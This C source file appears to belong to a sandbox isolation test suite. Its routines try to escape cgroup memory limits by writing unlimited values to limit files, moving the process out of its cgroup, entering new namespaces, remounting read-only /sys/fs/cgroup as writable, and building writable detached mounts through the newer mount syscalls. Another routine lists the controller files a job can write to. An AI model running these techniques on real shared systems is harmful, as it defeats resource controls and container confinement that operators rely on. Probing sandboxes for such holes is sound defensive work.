// SPDX-License-Identifier: Apache-2.0
#include "attack.h"
#include <dirent.h>

const char *place(void) {
    static char path[64];
    for (const char **base = (const char *[]){"/dev/shm", "/tmp", NULL}; *base; base++) {
        snprintf(path, sizeof path, "%s/attack-XXXXXX", *base);
        if (mkdtemp(path)) return path;
    }
    return NULL;
}

/// The namespaces in which a mount of cgroups is one's own, as many of them as can be had.
static void enter_namespaces(void) {
    static const int ways[] = {CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, CLONE_NEWNS | CLONE_NEWCGROUP,
                               CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWNS};
    for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
        if (!unshare(ways[i])) return;
    }
}

static int put(const char *folder, const char *name, const char *value) {
    char path[512];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0) return -1;
    int result = write(file, value, strlen(value)) < 0 ? -1 : 0;
    close(file);
    return result;
}

/// The job's own cgroup below `mount`, by the line of /proc/self/cgroup that names `controller` ("" is v2).
static void own(char *path, size_t size, const char *mount, const char *controller) {
    snprintf(path, size, "%s", mount);
    FILE *file = fopen("/proc/self/cgroup", "r");
    char line[512];
    while (file && fgets(line, sizeof line, file)) {
        char *names = strchr(line, ':'), *end = names ? strchr(names + 1, ':') : NULL;
        if (!end) continue;
        *end = 0, end[strcspn(end + 1, "\n") + 1] = 0;
        if (*controller ? strstr(names + 1, controller) != NULL : !names[1]) snprintf(path, size, "%s%s", mount, end + 1);
    }
    if (file) fclose(file);
}

static void lift(const char *mount, const char *controller) {
    char path[400];
    own(path, sizeof path, mount, controller);
    const char *folders[] = {path, mount};
    for (int i = 0; i < 2; i++) {
        const char *values[][2] = {{"memory.memsw.limit_in_bytes", "-1"}, {"memory.limit_in_bytes", "-1"},
                                   {"memory.swap.max", "max"},           {"memory.max", "max"},
                                   {"memory.max_usage_in_bytes", "0"},   {"memory.failcnt", "0"}};
        for (int value = 0; value < 6; value++) {
            if (!put(folders[i], values[value][0], values[value][1])) OPEN("%s/%s", folders[i], values[value][0]);
        }
        // Out of the limited cgroup altogether.
        if (!put(folders[i], "../cgroup.procs", "0")) OPEN("%s/../cgroup.procs", folders[i]);
    }
}

/// The same by the calls of Linux 5.2: a copy of the tree made writable, and hierarchies that are mounted nowhere.
static void lift_detached(void) {
    char path[64];
    struct {
        unsigned long long set, clear, propagation, userns;
    } writable = {.clear = 1}; // MOUNT_ATTR_RDONLY
    long tree = syscall(428 /* open_tree */, AT_FDCWD, "/sys/fs/cgroup", 1 | O_CLOEXEC | 0x8000 /* AT_RECURSIVE */);
    if (tree >= 0) {
        syscall(442 /* mount_setattr */, tree, "", AT_EMPTY_PATH | 0x8000, &writable, sizeof writable);
        static const char *places[][2] = {{"", ""}, {"/unified", ""}, {"/memory", "memory"}};
        for (int i = 0; i < 3; i++) {
            snprintf(path, sizeof path, "/proc/self/fd/%ld%s", tree, places[i][0]);
            lift(path, places[i][1]);
        }
        close(tree);
    }
    for (int version = 1; version <= 2; version++) {
        long context = syscall(430 /* fsopen */, version == 1 ? "cgroup" : "cgroup2", 0);
        if (context < 0) continue;
        if (version == 1) syscall(431 /* fsconfig */, context, 0 /* FSCONFIG_SET_FLAG */, "memory", NULL, 0);
        syscall(431, context, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0);
        long mount = syscall(432 /* fsmount */, context, 0, 0);
        snprintf(path, sizeof path, "/proc/self/fd/%ld", mount);
        if (mount >= 0) lift(path, version == 1 ? "memory" : ""), close(mount);
        close(context);
    }
}

int lift_limits(int argc, char **argv) {
    size_t bytes = (size_t)(argc > 1 ? atoi(argv[1]) : 0) << 20;
    lift("/sys/fs/cgroup/memory", "memory");
    lift("/sys/fs/cgroup", "");
    lift("/sys/fs/cgroup/unified", "");
    enter_namespaces();
    const char *where = place();
    if (where && !mount("none", where, "cgroup", 0, "memory")) lift(where, "memory"), umount(where);
    if (where && !mount("none", where, "cgroup2", 0, NULL)) lift(where, "");
    if (where) umount(where), rmdir(where);
    // A read-only mount made writable again.
    if (!mount("none", "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL)) lift("/sys/fs/cgroup", "");
    lift_detached();
    char *block = malloc(bytes);
    if (block) memset(block, 1, bytes);
    printf("held %zu MiB\n", bytes >> 20);
    return 0;
}

/// Names the controllers' files below `path` that can be opened for writing. With the files of the cgroup core a job may
/// order the processes below its own cgroup, which is what a namespace of cgroups is for.
static void find_writable(const char *path, const char *title, int depth) {
    DIR *folder = opendir(path);
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
        char name[1024];
        snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
        if (entry->d_type == DT_DIR) {
            if (depth < 3) find_writable(name, title, depth + 1);
            continue;
        }
        if (!strncmp(entry->d_name, "cgroup.", 7) || strstr(entry->d_name, ".pressure")) continue;
        int file = open(name, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
        if (file >= 0) OPEN("%s: %s", title, name), close(file);
    }
    if (folder) closedir(folder);
}

int climb(int argc, char **argv) {
    (void)argc, (void)argv;
    find_writable("/sys/fs/cgroup", "as it is mounted", 0);
    enter_namespaces();
    const char *where = place();
    if (!where) return 0;
    char line[256];
    FILE *list = fopen("/proc/cgroups", "r");
    while (list && fgets(line, sizeof line, list)) {
        line[strcspn(line, "\t ")] = 0;
        if (line[0] == '#' || mount("none", where, "cgroup", 0, line)) continue;
        find_writable(where, line, 0);
        umount(where);
    }
    if (list) fclose(list);
    if (!mount("none", where, "cgroup2", 0, NULL)) find_writable(where, "cgroup2", 0), umount(where);
    rmdir(where);
    return 0;
}
